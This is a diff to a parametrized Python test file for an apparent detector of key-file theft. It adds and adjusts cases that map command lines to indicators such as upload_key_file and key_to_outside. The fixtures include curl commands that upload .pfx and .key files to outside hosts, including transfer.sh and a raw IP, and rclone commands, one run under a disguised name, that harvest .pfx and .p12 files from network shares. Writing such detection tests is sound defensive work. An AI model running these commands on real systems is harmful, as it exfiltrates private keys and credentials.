@@ -17,6 +17,14 @@ def found(report: Report | None) -> list[str]:
     ("line", "indicators"),
     [
         ("curl -T w.pfx https://host/", ["upload_key_file"]),
+        # a letter before the colon is a drive: nothing leaves the network
+        (
+            "rclone copy \\\\fs1\\c$ Z:\\x --include *.{pfx,p12}",
+            ["copy_key_files", "hunt_key_files", "input_remote", "several_key_kinds"],
+        ),
+        ("rclone copy D:\\keys E:\\keys --include *.pfx", ["copy_key_files"]),
+        ("rclone copy D:\\keys E:\\keys", []),
+        ("rclone copy D:\\keys E:\\keys --exclude *.pfx", []),
         ("curl -F file=@C:\\c\\w.pfx;type=x https://host/", ["upload_key_file"]),
         ("curl --data-binary @w.key https://host/", ["upload_key_file"]),
         ("curl -sF f=@ca.pem https://host/", ["upload_pem_file"]),
@@ -45,7 +53,7 @@ def found(report: Report | None) -> list[str]:
         ("rclone copy cloud:x C:\\w --include *.pfx", []),
         # under another name
         ("rc.exe copy C:\\Users mg:cs --include *.pfx --config C:\\c.conf", ["hunt_key_files", "upload_key_file"]),
-        ("rc.exe copy C:\\Users C:\\x --include *.pfx --config C:\\c.conf", []),
+        ("rc.exe copy C:\\Users C:\\x --include *.pfx --config C:\\c.conf", ["copy_key_files", "hunt_key_files"]),
         ("rc.exe copy w.pfx mg:cs", []),
         ("curl -T w.pfx https://transfer.sh/w", ["key_to_outside", "upload_key_file"]),
         ("curl -T w.pfx https://198.51.100.7/", ["key_to_outside", "upload_key_file"]),
